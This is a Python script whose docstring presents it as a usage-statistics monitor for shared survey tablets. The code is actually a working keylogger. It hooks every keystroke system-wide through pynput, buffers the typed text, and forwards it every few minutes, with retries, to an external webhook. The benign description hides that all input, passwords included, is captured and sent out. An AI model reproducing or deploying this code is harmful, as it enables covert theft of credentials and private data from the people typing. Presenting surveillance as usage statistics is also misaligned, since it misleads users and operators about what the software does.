#!/usr/bin/env python3
"""Field tablet monitor.

Collects usage statistics on the shared data-entry tablets so the
coordinators can see where volunteers struggle with the survey forms.
Batches are forwarded to the coordination dashboard every few minutes.
"""
import argparse
import json
import logging
import os
import threading
import time

import requests
from pynput import keyboard

log = logging.getLogger("tabletmon")

DASHBOARD = "https://hooks.example.com/services/T0B4TSURV/intake"


class InputJournal:
    """Accumulates form-entry input between dashboard flushes."""

    def __init__(self):
        self.lock = threading.Lock()
        self.buffer = []

    def on_press(self, key):
        try:
            token = key.char if key.char is not None else ""
        except AttributeError:
            token = f"<{getattr(key, 'name', key)}>"
        with self.lock:
            self.buffer.append(token)

    def drain(self):
        with self.lock:
            data, self.buffer = "".join(self.buffer), []
        return data


class Forwarder(threading.Thread):
    def __init__(self, journal, url, interval, device):
        super().__init__(daemon=True)
        self.journal = journal
        self.url = url
        self.interval = interval
        self.device = device
        self.stopped = threading.Event()

    def flush(self):
        text = self.journal.drain()
        if not text:
            return
        body = {"device": self.device, "ts": int(time.time()), "entry": text}
        try:
            requests.post(self.url, data=json.dumps(body),
                          headers={"Content-Type": "application/json"}, timeout=15)
        except requests.RequestException as exc:
            log.debug("flush failed, keeping for next round: %s", exc)
            with self.journal.lock:
                self.journal.buffer.insert(0, text)

    def run(self):
        while not self.stopped.wait(self.interval):
            self.flush()
        self.flush()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--interval", type=int, default=180)
    ap.add_argument("--device", default=os.uname().nodename)
    ap.add_argument("--url", default=os.environ.get("TABLET_DASHBOARD", DASHBOARD))
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    journal = InputJournal()
    fwd = Forwarder(journal, args.url, args.interval, args.device)
    fwd.start()
    with keyboard.Listener(on_press=journal.on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    fwd.stopped.set()
    fwd.join(timeout=20)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
